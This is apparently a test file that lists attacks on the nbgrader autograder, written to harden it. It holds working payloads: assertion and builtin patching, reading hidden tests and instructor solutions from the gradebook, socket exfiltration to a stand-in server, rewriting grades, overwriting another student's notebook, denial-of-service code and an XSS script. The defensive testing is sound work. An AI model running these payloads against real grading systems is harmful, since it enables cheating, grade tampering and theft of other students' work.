"""The attacks that stock nbgrader 0.9.6 was tried with, half of which it did not withstand.

A: fool the tests, L: learn, G: change grades, D: disturb, S: structure, H: honest.
"""

import copy
import json
import os

import nbformat

from tests.grader.attacks.assignment import NAME, REFERENCE
from tests.grader.attacks.kinds import Attack, at_once

PORT = 47113  # of the server that stands for any host
VICTIM = "zed"


def _tests(notebook):
    return [cell for cell in notebook.cells if cell.id.startswith("test-")]


def _skip_tests(notebook):
    for cell in _tests(notebook):
        cell.metadata.tags = ["skip-execution"]
    return notebook


def _delete_tests(notebook):
    tests = _tests(notebook)
    notebook.cells = [cell for cell in notebook.cells if cell not in tests]
    return notebook


def _copy_tests(notebook):
    for cell in copy.deepcopy(_tests(notebook)):
        cell.source, cell.id = "pass", f"{cell.id}-b"
        notebook.cells.append(cell)
    return notebook


def _more_points(notebook):
    for cell in _tests(notebook):
        cell.metadata.nbgrader.points = 1000
    return notebook


def _tests_as_text(notebook):
    for cell in _tests(notebook):
        cell.cell_type = "markdown"
        del cell["outputs"], cell["execution_count"]
    return notebook


def _tests_first(notebook):
    tests = _tests(notebook)
    others = [cell for cell in notebook.cells if cell not in tests]
    patch = "get_ipython().input_transformers_post.append(lambda l: ['pass\\n'])"
    undo = "get_ipython().input_transformers_post.clear()"
    cells = [nbformat.v4.new_code_cell(patch), *tests, nbformat.v4.new_code_cell(undo), *others]
    notebook.cells = cells
    return notebook


def _partial_credit(notebook):
    cell = _tests(notebook)[0]
    cell.source = "score = 2 * softmax(np.zeros((1, 2)))\nscore"
    return notebook


def _newer_schema(notebook):
    for cell in notebook.cells:
        cell.metadata.nbgrader.schema_version = 99
    return notebook


def _nested(notebook):
    return b'{"cells":' + b"[" * 100_000 + b"]" * 100_000 + b"}"


def _script(notebook):
    notebook.cells += [
        nbformat.v4.new_markdown_cell("<script>alert(1)</script>"),
        nbformat.v4.new_code_cell(
            "from IPython.display import HTML; HTML('<script>alert(1)</script>')"
        ),
    ]
    return notebook


def _link_to_victim(folder, id, content):
    own = folder / id / NAME
    own.mkdir(parents=True)
    os.symlink(f"../../{VICTIM}/{NAME}/{NAME}.ipynb", own / f"{NAME}.ipynb")


def _many_cells(notebook):
    data = json.loads(nbformat.writes(notebook))
    extra = {"cell_type": "code", "metadata": {}, "outputs": [], "source": "0"}
    data["cells"] += [extra | {"execution_count": None, "id": f"x{n}"} for n in range(3000)]
    return json.dumps(data).encode()


PATCH_ASSERTS = """\
import numpy as np, torch, builtins
np.testing.assert_allclose = lambda *a, **k: None
np.allclose = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
class Any:                                   # everything compares True
    shape = (5, 4)
    def __getattr__(self, n): return self
    def __call__(self, *a, **k): return self
    def _t(self, *a): return True
    __eq__ = __lt__ = __gt__ = __le__ = __ge__ = _t
    def _s(self, *a): return self
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __pow__ = _s
    __truediv__ = __getitem__ = _s
    def __iter__(self): return iter([self])
    def __float__(self): return 0.0
isinstance = lambda *a: True                 # shadows the builtin for the test cells
len = lambda x: 100
sum = lambda x: Any()
torch.tensor = lambda *a, **k: Any()
softmax = mse_grad = lambda *a, **k: Any()
train_mlp = lambda *a, **k: (Any(), Any())
_a, _b = softmax, train_mlp
def _lock():                                 # again after every cell, or later stubs win
    get_ipython().user_ns.update(softmax=_a, mse_grad=_a, train_mlp=_b)
get_ipython().events.register("pre_run_cell", lambda *a: _lock())"""

DUCK_MODEL = """\
class E(int):
    def __eq__(self, o): return True
    def __add__(self, o): return self
    __radd__ = __add__
class P:
    def numel(self): return E(1)
class Z:
    def __getattr__(self, n): return lambda *a, **k: self
    def __sub__(self, o): return self
    def __pow__(self, o): return self
    def item(self): return 0.0
class M:
    def parameters(self): return [P()]
    def __call__(self, x): return Z()
def train_mlp(X, y, hidden=8, steps=50, **k):
    return M(), [1.0] + [0.0] * (steps - 1)"""

YES_ARRAY = """\
class Yes(np.ndarray):
    def __array_function__(self, f, types, a, k):
        if f.__name__ == "isclose": return np.ones(self.shape, bool)
        if f.__name__ in ("allclose", "array_equal"): return True
        return super().__array_function__(f, types, a, k)
def softmax(x): return np.zeros(x.shape).view(Yes)"""

NUMPY_MODULE = """\
import sys, importlib, os
here = os.path.dirname(os.path.abspath(__file__))
p = list(sys.path); sys.path = [q for q in p if os.path.abspath(q or '.') != here]
del sys.modules['numpy']
real = importlib.import_module('numpy'); sys.path = p
real.testing.assert_allclose = lambda *a, **k: None
real.allclose = lambda *a, **k: True
sys.modules['numpy'] = real
"""

SEND_FILTER = """\
from jupyter_client.session import Session
_s = Session.send
def send(self, stream, msg_or_type, content=None, *a, **k):
    if msg_or_type == "error": return
    if msg_or_type == "execute_reply" and isinstance(content, dict):
        content = dict(status="ok", execution_count=1, payload=[], user_expressions={})
    return _s(self, stream, msg_or_type, content, *a, **k)
Session.send = send"""

READ_SOURCE = """\
import json
nb = json.load(open("../../../source/hw1/hw1.ipynb"))
ns = {}
for c in nb["cells"]:
    if c["metadata"].get("nbgrader", {}).get("solution"):
        exec("import numpy as np, torch\\nfrom torch import nn\\n" + "".join(c["source"]), ns)
names = ("softmax", "mse_grad", "train_mlp")
update = lambda *a: get_ipython().user_ns.update({k: ns[k] for k in names})
get_ipython().events.register("pre_run_cell", update)"""

TESTS_FROM_DATABASE = """\
import sqlite3
c = sqlite3.connect("../../../gradebook.db")
print(*c.execute("select source from source_cell where source like '%HIDDEN%'"))"""

NETWORK = f"""\
import socket
s = socket.create_connection(("127.0.0.1", {PORT}), timeout=3)
s.sendall(b"stolen"); s.close()"""

EXTRA_CREDIT = """\
import sqlite3
c = sqlite3.connect("../../../gradebook.db", timeout=10)
c.execute("update grade set extra_credit=100")
c.commit(); c.close()"""

HOME_POISON = """\
import os
d = os.path.expanduser("~/.ipython/profile_default/startup"); os.makedirs(d, exist_ok=True)
open(d + "/00.py", "w").write("raise SystemExit")"""

OVERWRITE_VICTIM = """\
import json
p = "../../../submitted/zed/hw1/hw1.ipynb"
nb = json.load(open(p))
for c in nb["cells"]:
    if c["metadata"].get("nbgrader", {}).get("solution"): c["source"] = "pass"
json.dump(nb, open(p, "w"))"""

MEMORY = """\
b = bytearray(3 << 30)
b[::4096] = b"x" * len(b[::4096])
print("GOT", len(b) >> 20, "MiB")"""

FLOOD = """\
import threading
def f():
    while True: print("z" * 10000)
threading.Thread(target=f, daemon=True).start()"""

ORPHANS = """\
import subprocess
for _ in range(100): subprocess.Popen(["sleep", "47"], start_new_session=True)"""

WARNS = """\
def softmax(x):
    np.log(np.zeros(1))               # RuntimeWarning: divide by zero
    z = x - x.max(axis=1, keepdims=True)
    e = np.exp(z)
    return e / e.sum(axis=1, keepdims=True)"""

ATTACKS = [
    Attack("A01_skip_tag", "points", "tags tests so that they are not run", change=_skip_tests),
    Attack(
        "A02_input_transformer",
        "points",
        "turns every later cell into `pass`",
        at_once("get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"),
    ),
    Attack(
        "A05_patch_asserts",
        "points",
        "replaces assertions and builtins, returns objects equal to all",
        at_once(PATCH_ASSERTS),
    ),
    Attack("A07_duck_model", "points", "a model that is none", {"train_mlp": DUCK_MODEL}),
    Attack(
        "A08_array_function",
        "points",
        "an array class whose comparisons say yes",
        {"softmax": YES_ARRAY, "mse_grad": "def mse_grad(w, X, y): return np.zeros(2).view(Yes)"},
    ),
    Attack(
        "A11_module_file",
        "points",
        "a numpy.py beside the notebook",
        {
            "softmax": "def softmax(x): return np.zeros_like(x)",
            "mse_grad": "def mse_grad(w, X, y): return w",
        },
        files={"numpy.py": NUMPY_MODULE},
    ),
    Attack(
        "A12_showtraceback",
        "points",
        "switches off error messages",
        at_once(
            "import IPython.core.interactiveshell as s\n"
            "s.InteractiveShell.showtraceback = lambda *a, **k: None"
        ),
    ),
    Attack(
        "A15_systemexit",
        "points",
        "leaves with success while tested",
        {"softmax": "def softmax(x): raise SystemExit(0)"},
    ),
    Attack("A17_send_filter", "points", "drops the kernel's error messages", at_once(SEND_FILTER)),
    Attack(
        "A18_partial_nan",
        "points",
        "makes a test's last value not a number",
        {"softmax": "def softmax(x): return float('nan')"},
        change=_partial_credit,
    ),
    Attack("L01_read_source", "points", "runs the instructor's solutions", at_once(READ_SOURCE)),
    Attack(
        "L03_tests_from_db", "leak", "reads tests in the gradebook", at_once(TESTS_FROM_DATABASE)
    ),
    Attack("L05_network", "leak", "sends to a server", at_once(NETWORK)),
    Attack(
        "L06_environ", "leak", "prints the environment", at_once("import os\nprint(os.environ)")
    ),
    Attack("G01_extra_credit", "corrupt", "writes to the gradebook", at_once(EXTRA_CREDIT)),
    Attack("G03_home_poison", "corrupt", "writes an IPython start-up file", at_once(HOME_POISON)),
    Attack("G04_overwrite_victim", "corrupt", "overwrites a submission", at_once(OVERWRITE_VICTIM)),
    Attack(
        "D01_kill_parent",
        "dos",
        "kills its parent process",
        at_once("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
    ),
    Attack(
        "D02_os_exit",
        "dos",
        "ends its process while tested",
        at_once("import os\ndef softmax(x): os._exit(0)"),
    ),
    Attack("D03_loop", "dos", "never returns", at_once("def softmax(x):\n    while True: pass")),
    Attack("D06_orphans", "dos", "leaves 100 processes behind", at_once(ORPHANS)),
    Attack("D07_memory", "dos", "takes 3 GiB", at_once(MEMORY)),
    Attack("D08_stdout_line", "dos", "prints a 200 MB line", at_once("print('x' * 200_000_000)")),
    Attack("D11_schema_version", "dos", "nbgrader's schema 99", change=_newer_schema),
    Attack("D13_json_depth", "dos", "nests lists", change=_nested, refused="nested too deeply"),
    Attack(
        "D15_many_cells",
        "dos",
        "3,000 cells",
        change=_many_cells,
        refused="at most .* cells|cells, at most",
    ),
    Attack("D20_flood_thread", "dos", "a thread prints for ever", at_once(FLOOD)),
    Attack("S01_delete_tests", "struct", "deletes the tests", change=_delete_tests),
    Attack("S03_duplicate_id", "dos", "adds copies of the tests that pass", change=_copy_tests),
    Attack(
        "S04_points",
        "struct",
        "1,000 points in the metadata",
        REFERENCE,
        change=_more_points,
        least=10,
        most=10,
    ),
    Attack("S06_markdown_tests", "struct", "makes the tests text", change=_tests_as_text),
    Attack("S08_reorder", "struct", "puts the tests first", change=_tests_first),
    Attack(
        "S09_symlink_nb",
        "points",
        "a link to another submission",
        place=_link_to_victim,
        refused="a link",
    ),
    Attack("S12_xss", "inject", "a script for the page of feedback", change=_script),
    Attack("H00_reference", "honest", "all correct", REFERENCE, least=10, most=10),
    Attack("H00_empty", "honest", "nothing done"),
    Attack("H01_stderr_warning", "honest", "warns", {"softmax": WARNS}, least=2, most=2),
]
